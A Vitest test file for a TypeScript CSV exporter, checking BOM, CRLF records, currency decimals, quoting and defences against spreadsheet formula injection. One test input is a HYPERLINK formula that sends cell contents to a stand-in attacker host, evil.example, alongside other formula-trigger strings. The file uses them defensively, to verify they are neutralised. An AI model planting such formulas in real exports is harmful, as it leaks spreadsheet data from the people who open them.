import { describe, expect, it } from 'vitest';
import { toCsv } from './csv';
import type { ExportTable } from './table-export';
import { TOP_SELLERS } from './table-export.fixture';

const CNY = { currencyExponent: 2 };

function textTable(...names: string[]): ExportTable {
  return {
    title: 't',
    columns: [
      { key: 'name', label: 'Name', kind: 'text' },
      { key: 'net', label: 'Net', kind: 'money' },
    ],
    rows: names.map((name) => ({ name, net: -50 })),
  };
}

/** The records after the BOM and the header, without the final CRLF. */
function records(csv: string): string[] {
  return csv.slice(1).split('\r\n').slice(1, -1);
}

describe('toCsv', () => {
  it('writes the golden file: BOM, header, CRLF records, exact decimals', () => {
    expect(toCsv(TOP_SELLERS, CNY)).toBe(
      '\uFEFF日期,商品,数量,笔数,净额,毛利率\r\n' +
        '2025-03-01,可乐 330ml,2,12,1234.56,10.5%\r\n' +
        // A comma and quotes: the field is quoted and its quotes doubled.
        '2025-03-01,"Apples, ""Fuji""",0.35,3,-0.50,-2.5%\r\n' +
        // null is an empty field; a zero is still written.
        '2025-03-02,,1.5,0,0.00,\r\n',
    );
  });

  it('writes money with the currency exponent', () => {
    expect(records(toCsv(textTable('x'), { currencyExponent: 0 }))).toEqual(['x,-50']); // JPY
    expect(records(toCsv(textTable('x'), { currencyExponent: 3 }))).toEqual(['x,-0.050']); // KWD
  });

  it('quotes fields with a line break (CR, LF or both)', () => {
    const csv = toCsv(textTable('a\nb', 'c\r\nd'), CNY);
    expect(csv).toBe('\uFEFFName,Net\r\n"a\nb",-0.50\r\n"c\r\nd",-0.50\r\n');
  });

  it('writes an empty table as its header', () => {
    expect(toCsv({ ...TOP_SELLERS, rows: [] }, CNY)).toBe('\uFEFF日期,商品,数量,笔数,净额,毛利率\r\n');
  });

  describe('formula injection', () => {
    it.each([
      [
        '=HYPERLINK("http://evil.example/?"&A1,"点我")',
        `"'=HYPERLINK(""http://evil.example/?""&A1,""点我"")"`,
      ],
      ['+1', "'+1"],
      ['-1+2', "'-1+2"], // text that looks like a number is still text
      ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
      ['\t=1', "'\t=1"],
      ['\r=1', `"'\r=1"`],
    ])('prefixes %j with a quote', (name, field) => {
      expect(records(toCsv(textTable(name), CNY))).toEqual([`${field},-0.50`]);
    });

    it('leaves other text alone, an inner = included', () => {
      expect(records(toCsv(textTable('a=b', ' =1', "'quoted"), CNY))).toEqual([
        'a=b,-0.50',
        ' =1,-0.50',
        "'quoted,-0.50",
      ]);
    });

    it('writes negative numbers as numbers, unprefixed', () => {
      expect(records(toCsv(TOP_SELLERS, CNY))[1]).toContain(',-0.50,-2.5%');
    });

    it('guards the header labels too', () => {
      const table: ExportTable = { title: 't', columns: [{ key: 'a', label: '=1', kind: 'text' }], rows: [] };
      expect(toCsv(table, CNY)).toBe("\uFEFF'=1\r\n");
    });
  });

  it('refuses a value that does not fit its column', () => {
    const table = (value: string | number): ExportTable => ({
      title: 't',
      columns: [{ key: 'v', label: 'v', kind: typeof value === 'string' ? 'money' : 'text' }],
      rows: [{ v: value }],
    });
    expect(() => toCsv(table('12.34'), CNY)).toThrow(TypeError);
    expect(() => toCsv(table(12), CNY)).toThrow(TypeError);
    expect(() =>
      toCsv({ ...table(0), columns: [{ key: 'v', label: 'v', kind: 'money' }], rows: [{ v: 1.5 }] }, CNY),
    ).toThrow(TypeError);
  });
});
